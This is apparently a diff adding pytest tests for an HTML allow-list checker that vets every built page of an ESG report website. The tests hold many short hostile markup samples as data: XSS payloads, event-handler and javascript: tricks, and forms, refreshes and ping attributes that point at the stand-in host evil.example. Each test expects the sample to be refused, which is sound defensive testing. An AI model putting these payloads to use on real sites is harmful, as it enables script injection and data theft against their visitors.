@@ -328,3 +328,128 @@ def test_a_stray_file_stops_the_build_and_no_source_map_is_published(mini_projec
     assert list(site.rglob("*.min.js")) and not list(site.rglob("*.map"))
     code, output = mini_project(pages, before_build=lambda root: (root / "docs" / "assets" / "x.js").write_text("1"))
     assert code != 0 and "docs/assets/x.js: no page or template uses this file" in output, output[-3000:]
+
+
+# ── route: the final HTML — every built page, header and footer included, against the allow-list ─────────────
+OWN_SCRIPTS = frozenset({"assets/javascripts/bundle.a5f9d56c.min.js", "assets/esg-reader.js"})
+HOSTS = frozenset({"www.hkexnews.hk", "ir.medlive.cn", "medlive-esg.github.io"})
+
+
+def _page(content: str = "<p>Text.</p>", head: str = "", header: str = "", footer: str = "") -> str:
+    """A built page as the theme writes it, with `content` in the article and the other parts in the chrome."""
+    return ('<!doctype html><html lang="en"><head><meta charset="utf-8">'
+            '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">'
+            '<link rel="stylesheet" href="../assets/extra.css"><link rel="canonical" '
+            'href="https://medlive-esg.github.io/esg-report-2022/en/">'
+            '<script id="__config" type="application/json">{"base": ".."}</script>'
+            f'{head}</head><body><header class="md-header"><form class="md-search__form" name="search">'
+            f'<input type="text" name="query"></form>{header}</header><main><article class="md-content__inner">'
+            f'{content}</article></main><footer>{footer}'
+            '<script src="../assets/javascripts/bundle.a5f9d56c.min.js"></script>'
+            '<script src="../assets/esg-reader.js"></script></footer></body></html>')
+
+
+# (case, where: content/head/header/footer, markup, words the problem must contain)
+FINAL_REFUSED = [
+    ("script in the article", "content", "<script>alert(1)</script>", ["<script> element"]),
+    ("script split by a tag", "content", "<scr<b></b>ipt>alert(1)</script>", ["a <scr<b> element"]),
+    ("img onerror", "content", '<img src="x.png" onerror="alert(1)">', ["event handler onerror="]),
+    ("unquoted handler", "content", "<p onclick=alert(1)>x</p>", ["event handler onclick="]),
+    ("svg onload", "content", '<svg onload="alert(1)"></svg>', ["event handler onload="]),
+    ("details ontoggle", "content", '<details open ontoggle="alert(1)"><summary>x</summary></details>',
+     ["event handler ontoggle="]),
+    ("style element", "content", "<style>body{display:none}</style>", ["<style> element"]),
+    ("full-screen overlay by style attribute", "content",
+     '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>', ["style attribute"]),
+    ("form in the article", "content", '<form action="https://evil.example/"><input name="p"></form>',
+     ["<form> element"]),
+    ("iframe", "content", '<iframe src="https://www.hkexnews.hk/"></iframe>', ["<iframe> element"]),
+    ("object", "content", '<object data="x.swf"></object>', ["<object> element"]),
+    ("embed", "content", '<embed src="x.swf">', ["<embed> element"]),
+    ("base in the article", "content", '<base href="https://evil.example/">', ["<base> element"]),
+    ("meta refresh in the article", "content", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+     ["<meta> element"]),
+    ("link in the article", "content", '<link rel="stylesheet" href="x.css">', ["<link> element"]),
+    ("input in the article", "content", '<input type="text" value="x">', ["<input> element"]),
+    ("button with formaction", "content", '<button formaction="javascript:alert(1)">x</button>',
+     ["<button> element", "javascript: URL"]),
+    ("template", "content", "<template><img src=x onerror=alert(1)></template>", ["<template> element"]),
+    ("math", "content", "<math><mi>x</mi></math>", ["<math> element"]),
+    ("marquee", "content", "<marquee>x</marquee>", ["<marquee> element"]),
+    ("javascript link", "content", '<a href="javascript:alert(1)">x</a>', ["javascript: URL"]),
+    ("javascript link with an entity", "content", '<a href="&#106;avascript:alert(1)">x</a>', ["javascript: URL"]),
+    ("javascript link with a tab", "content", '<a href="java\tscript:alert(1)">x</a>', ["javascript: URL"]),
+    ("vbscript link", "content", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript: URL"]),
+    ("data: HTML link", "content", '<a href="data:text/html,<script>alert(1)</script>">x</a>', ["data: URL"]),
+    ("data: image", "content", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', ["data: URL"]),
+    ("file link", "content", '<a href="file:///etc/passwd">x</a>', ["file: URL"]),
+    ("plain http link", "content", '<a href="http://ir.medlive.cn/">IR</a>', ["https only"]),
+    ("protocol-relative link", "content", '<a href="//evil.example/">x</a>', ["protocol-relative"]),
+    ("https to an unlisted host", "content", '<a href="https://evil.example/">x</a>', ["evil.example",
+                                                                                       "extra.link_hosts"]),
+    ("srcset with a data URL", "content", '<img src="a.png" srcset="a.png 1x, data:image/png;base64,AA 2x">',
+     ["data: URL"]),
+    ("svg link by xlink", "content", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+     ["javascript: URL"]),
+    ("ping attribute", "content", '<a href="page/" ping="https://evil.example/">x</a>', ["ping="]),
+    ("meta refresh in the head", "head", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+     ['<meta http-equiv="refresh">']),
+    ("meta set-cookie", "head", '<meta http-equiv="set-cookie" content="a=b">', ["set-cookie"]),
+    ("base in the head", "head", '<base href="https://evil.example/">', ["<base> element"]),
+    ("style element in the head", "head", "<style>*{display:none}</style>", ["<style> element"]),
+    ("link preload", "head", '<link rel="preload" href="https://evil.example/x.js">', ['<link rel="preload">']),
+    ("script from a CDN in the header", "header", '<script src="https://cdn.example/x.js"></script>',
+     ["not one of the site's own script files"]),
+    ("script of an unknown file", "header", '<script src="../assets/stray.js"></script>',
+     ["not one of the site's own script files"]),
+    ("inline script in the footer", "footer", "<script>alert(1)</script>", ["inline <script>"]),
+    ("form that sends in the header", "header", '<form action="https://evil.example/" method="post"></form>',
+     ["<form> that sends somewhere"]),
+    ("iframe in the footer", "footer", '<iframe src="https://www.hkexnews.hk/"></iframe>', ["<iframe> element"]),
+    ("handler in the footer", "footer", '<a href="../" onmouseover="alert(1)">x</a>', ["event handler onmouseover"]),
+    ("style attribute in the header", "header", '<div style="display:none">x</div>', ["style attribute"]),
+    ("http link in the footer", "footer", '<a href="http://ir.medlive.cn/">IR</a>', ["https only"]),
+]
+
+
+@pytest.mark.parametrize("case,where,markup,words", FINAL_REFUSED, ids=[c[0] for c in FINAL_REFUSED])
+def test_the_final_html_is_checked_against_the_allow_list(case, where, markup, words):
+    from macros.render.html_allowlist import final_html_problems
+
+    problems = final_html_problems(_page(**{where: markup}), OWN_SCRIPTS, HOSTS)
+    text = "\n".join(problems)
+    for word in words:
+        assert word in text, f"{case}: {word!r} not in {problems}"
+
+
+def test_the_theme_and_plain_content_pass():
+    from macros.render.html_allowlist import final_html_problems
+
+    content = ('<h1 id="t">T</h1><p>Text with javascript: and &lt;script&gt; as text. <a href="../kpis/#ghg">KPIs</a>'
+               ' <a href="https://www.hkexnews.hk">HKEX</a> <a href="mailto:ir@kingyee.com.cn">mail</a></p>'
+               '<table><caption>c</caption><tr><th scope="col">a</th><td>1</td></tr></table>'
+               '<svg viewBox="0 0 10 10" role="img"><title>t</title><text x="1" y="2" font-size="13.1px">x</text>'
+               '</svg>')
+    assert final_html_problems(_page(content), OWN_SCRIPTS, HOSTS) == []
+
+
+def test_a_comment_in_the_built_page_is_found():
+    from macros.render.html_allowlist import comments
+
+    assert comments(_page("<p>x</p><!-- internal note -->")) == [" internal note "]
+    assert comments(_page()) == []
+
+
+def test_a_page_with_an_http_link_or_a_comment_stops_the_build(mini_project):
+    """The hooks are wired: the source check names the line; the final check runs on the built page too (a host
+    not in mkdocs.yml extra.link_hosts is seen only there)."""
+    code, output = mini_project({"index": HOME, "other": (
+        "# 另一頁 {#o}\n\n正文。\n", "# Other {#o}\n\n[IR](http://ir.medlive.cn/)\n\n<!-- a note -->\n")})
+    assert code != 0
+    assert "docs/other.en.md:3: a link by 'http:' (not https)" in output, output[-3000:]
+    assert "docs/other.en.md:5: an HTML comment" in output, output[-3000:]
+    code, output = mini_project({"index": HOME, "other": (
+        "# 另一頁 {#o}\n\n正文。\n", "# Other {#o}\n\n[x](https://evil.example/)\n")})
+    assert code != 0
+    assert "docs/other.en.md: the built page is not on the allow-list" in output, output[-3000:]
+    assert "a link to evil.example, which is not in mkdocs.yml extra.link_hosts" in output
